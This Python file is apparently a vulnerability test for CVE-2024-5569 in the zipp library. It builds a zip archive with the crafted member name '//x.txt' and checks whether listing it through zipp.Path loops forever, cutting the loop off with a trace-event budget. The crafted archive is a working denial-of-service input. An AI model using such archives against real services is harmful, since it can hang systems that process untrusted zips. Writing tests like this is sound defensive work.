"""CVE-2024-5569 (zipp 3.19.0 -> 3.19.1): infinite loop on crafted names in ``zipp.Path``.

``CompleteDirs`` adds the implied parent dirs of every member name; for a name starting with
``//`` the parent walk reaches ``//`` and ``posixpath.split("//")`` returns ``//`` again, so
listing the archive never ends. 3.19.1 sanitizes names first (``SanitizedNames`` becomes a base of
``CompleteDirs``). The check lists an archive holding ``//x.txt`` through a ``zipp.Path`` made in
``prepare()`` (its ``ZipFile`` is re-classed then, before any listing) and a fresh one, under a
``sys.settrace`` budget of 200k trace events: the infinite loop is cut by an exception from the
tracer (same thread, nothing left spinning); a normal listing needs a few hundred events.
"""

from __future__ import annotations

import io
import sys
import zipfile
from dataclasses import dataclass
from types import FrameType
from typing import Any

import zipp

_BUDGET = 200_000


class _OverBudget(Exception):
    pass


def _archive() -> zipfile.ZipFile:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as zf:
        zf.writestr("//x.txt", b"hello")
    return zipfile.ZipFile(io.BytesIO(data.getvalue()))


@dataclass
class _Ctx:
    path: zipp.Path


def _list_loops(path: zipp.Path) -> bool:
    """List ``path`` under the trace budget; True if the budget ran out."""
    events = 0

    def tracer(frame: FrameType, event: str, arg: Any) -> Any:
        nonlocal events
        events += 1
        if events > _BUDGET:
            raise _OverBudget
        return tracer

    previous = sys.gettrace()
    sys.settrace(tracer)
    try:
        names = [entry.name for entry in path.iterdir()]
    except _OverBudget:
        return True
    finally:
        sys.settrace(previous)
    if "x.txt" not in names:
        raise RuntimeError(f"unexpected listing {names}")
    return False


def prepare() -> object:
    return _Ctx(zipp.Path(_archive()))


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, _Ctx)
    return any([_list_loops(ctx.path), _list_loops(zipp.Path(_archive()))])
